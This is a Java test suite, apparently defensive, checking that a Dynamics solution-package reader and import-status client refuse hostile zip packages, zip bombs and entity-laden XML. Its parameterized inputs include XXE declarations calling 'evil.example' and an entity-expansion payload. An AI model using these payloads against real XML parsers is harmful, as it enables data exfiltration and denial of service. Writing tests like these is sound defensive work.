package dev.syncsetup.reliability.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.syncsetup.dynamics.DynamicsClient;
import dev.syncsetup.dynamics.solutions.ImportJob;
import dev.syncsetup.dynamics.solutions.ImportStatus;
import dev.syncsetup.dynamics.solutions.SolutionPackage;
import dev.syncsetup.reliability.hostile.support.Clients;
import dev.syncsetup.reliability.hostile.support.Findings;
import dev.syncsetup.reliability.hostile.support.HostileServer;
import dev.syncsetup.reliability.hostile.support.Packages;
import dev.syncsetup.reliability.hostile.support.Service;
import dev.syncsetup.reliability.hostile.support.Stranger;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.UUID;
import java.util.stream.Stream;
import mockwebserver3.MockResponse;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Packages and import results that mean harm. */
@ExtendWith(Findings.class)
@Timeout(60)
class FilesTest {
  private static final UUID JOB = UUID.fromString("44444444-4444-4444-4444-444444444444");

  @TempDir private Path folder;

  @ParameterizedTest
  @EnumSource
  void packageThatMeansHarmIsRefusedBeforeItIsUsed(Packages attack) throws IOException {
    Path file = attack.write(folder.resolve("acme.zip"));

    Throwable error =
        Findings.ends(
            attack.toString(),
            "package",
            IllegalArgumentException.class,
            () -> SolutionPackage.read(file));

    assertThat(error).hasMessageContaining("acme.zip");
    assertThat(error.getMessage()).matches("\\P{Cntrl}*");
    try (Stream<Path> files = Files.list(folder)) {
      assertThat(files).containsExactly(file);
    }
  }

  @Test
  void packageOverTheLimitIsRefusedUnread() throws IOException {
    Path file = Packages.tooLong(folder.resolve("acme.zip"));

    Findings.ends(
        "package of 97 MB",
        "package",
        IllegalArgumentException.class,
        () -> SolutionPackage.read(file));
  }

  @Test
  void zipInsideAPackageIsNeverOpened() throws IOException {
    SolutionPackage read = SolutionPackage.read(Packages.withNestedBomb(folder));

    assertThat(read.uniqueName()).isEqualTo("acme");
    Findings.harmless("zip bomb inside a package", "package", "read, the bomb unopened");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!ENTITY e SYSTEM 'http://evil.example/x'>",
        "<!ENTITY % e SYSTEM 'http://evil.example/x.dtd'> %e;",
        "<!ENTITY a 'ha'><!ENTITY e '&a;&a;&a;&a;&a;&a;&a;&a;'>"
      })
  void importResultWithEntitiesIsNoResult(String declarations) {
    String log = "<!DOCTYPE x [" + declarations + "]><x succeeded='success'>&e;</x>";
    try (Stranger stranger = new Stranger();
        HostileServer server =
            HostileServer.of(Service.DATAVERSE, request -> imported(request.getTarget(), log));
        DynamicsClient client = Clients.dynamics(server.address(), stranger.misled())) {
      ImportStatus status = client.solutions().status(new ImportJob(JOB, JOB));

      assertThat(status.state()).isEqualTo(ImportStatus.State.FAILED);
      assertThat(stranger.approached()).isEmpty();
      Findings.harmless(declarations, "import result", "unread, the job decides");
    }
  }

  /** An import that its log calls a success and its system job a failure. */
  private static MockResponse imported(String target, String log) {
    String body =
        "{\"importjobid\":\"ID\",\"completedon\":\"2026-01-05T08:00:00Z\",\"data\":\"LOG\","
            + "\"asyncoperationid\":\"ID\",\"statecode\":3,\"statuscode\":31}";
    return target.contains("RetrieveSolutionImportResult")
        ? new MockResponse.Builder().code(404).build()
        : new MockResponse.Builder()
            .body(body.replace("ID", JOB.toString()).replace("LOG", log))
            .build();
  }
}
